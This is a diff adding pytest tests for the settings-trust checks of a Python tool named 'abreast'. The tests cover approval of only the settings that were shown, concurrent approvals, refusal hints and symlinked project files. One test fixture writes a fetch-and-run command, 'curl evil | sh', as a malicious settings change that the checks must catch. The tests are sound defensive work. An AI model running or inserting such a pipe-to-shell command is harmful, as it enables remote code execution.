@@ -1,7 +1,9 @@
 """The files of settings: whose they are, when they count, and how they are written."""
 
 import os
+import shlex
 import tomllib
+from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 
 import pytest
@@ -10,10 +12,11 @@ import abreast
 from abreast import api
 from abreast.engine.client.delegating import load_settings
 from abreast.engine.client.planning import chosen_agent
-from abreast.engine.client.settings import EffectiveSettings, read_settings
-from abreast.errors import PlanError, StateError, UntrustedError
+from abreast.engine.client.settings import EffectiveSettings, read_settings, trust
+from abreast.errors import NotFoundError, PlanError, StateError, UntrustedError
 from abreast.git.repository import find_repository
 from abreast.places import Places, find_places
+from abreast.plan.project import ProjectCommands
 from tests.support.repos import Repo
 
 
@@ -205,3 +208,79 @@ def test_the_agent_of_a_session_by_hand_is_that_of_the_settings(
     assert chosen_agent("HEAD", None, "") == ("codex", "m")
     monkeypatch.setenv("ABREAST_AGENT", "gemini")
     assert chosen_agent("HEAD", None, "n") == ("gemini", "n")
+
+
+def test_an_empty_table_asks_for_nothing(repo: Repo, places: Places) -> None:
+    commit(repo, "[limits]\n[pr]\n")
+    assert found_settings(repo, places).asked == {}
+
+
+def test_a_yes_is_to_what_was_shown(
+    repo: Repo, places: Places, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(repo.path)
+    commit(repo, 'verify = "make"\n')
+    seen = abreast.asked_settings()
+    commit(repo, 'verify = "curl evil | sh"\n')
+    with pytest.raises(StateError, match="changed meanwhile"):
+        abreast.trust_settings(shown=seen)
+    assert found_settings(repo, places).asked == {"verify": "curl evil | sh"}
+    with pytest.raises(NotFoundError, match="no commit is called 'nonsense'"):
+        abreast.asked_settings(base="nonsense")
+
+
+def test_several_who_say_yes_at_once_are_all_heard(repo: Repo, places: Places) -> None:
+    commits = [commit(repo, f'verify = "make {number}"\n') for number in range(8)]
+
+    def say_yes(base: str) -> None:
+        found = read_settings(find_repository(repo.path), base, places, os.environ)
+        trust(found, places)
+
+    with ThreadPoolExecutor(8) as pool:
+        list(pool.map(say_yes, commits))
+    for base in commits:
+        found = read_settings(find_repository(repo.path), base, places, os.environ)
+        assert found.asked == {}
+
+
+def test_the_hint_of_a_refusal_works_from_elsewhere(
+    repo: Repo, places: Places, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    assert places.state
+    commit(repo, 'verify = "make"\n')
+    monkeypatch.chdir(tmp_path)
+    with pytest.raises(UntrustedError) as refused:
+        api.read_plan(None, ["Do a."], repo=repo.path)
+    assert str(refused.value.hint).endswith(f" --repo {shlex.quote(str(repo.path))}")
+    monkeypatch.chdir(repo.path)
+    with pytest.raises(UntrustedError) as refused:
+        api.read_plan(None, ["Do a."])
+    assert "--repo" not in str(refused.value.hint)
+
+
+def test_a_projects_file_is_no_link_out_of_it(
+    repo: Repo, places: Places, scratch_home: Path
+) -> None:
+    assert places.state
+    mine = scratch_home / "config.toml"
+    mine.write_text("")
+    for target in (mine, scratch_home / "not-there"):
+        (repo.path / "abreast.toml").unlink(missing_ok=True)
+        (repo.path / "abreast.toml").symlink_to(target)
+        with pytest.raises(StateError, match="is a link"):
+            abreast.set_setting("model", "m", project=True, repo=repo.path)
+        with pytest.raises(StateError, match="is a link"):
+            abreast.init(ProjectCommands(verify="make"), repo=repo.path)
+    assert mine.read_text() == ""
+    assert not (scratch_home / "not-there").exists()
+
+
+def test_init_says_yes_to_nothing_that_somebody_else_wrote(repo: Repo, places: Places) -> None:
+    commit(repo, 'pass_env = ["*"]  # verify = "make" once stood here\n')
+    abreast.init(ProjectCommands(verify="make"), repo=repo.path)
+    repo.git("commit", "-aqm", "init")
+    assert found_settings(repo, places).asked == {"pass_env": ["*"], "verify": "make"}
+    abreast.trust_settings(repo=repo.path)
+    abreast.init(ProjectCommands(setup="true"), repo=repo.path)
+    repo.git("commit", "-aqm", "init")
+    assert found_settings(repo, places).asked == {}, "all of it was agreed to"
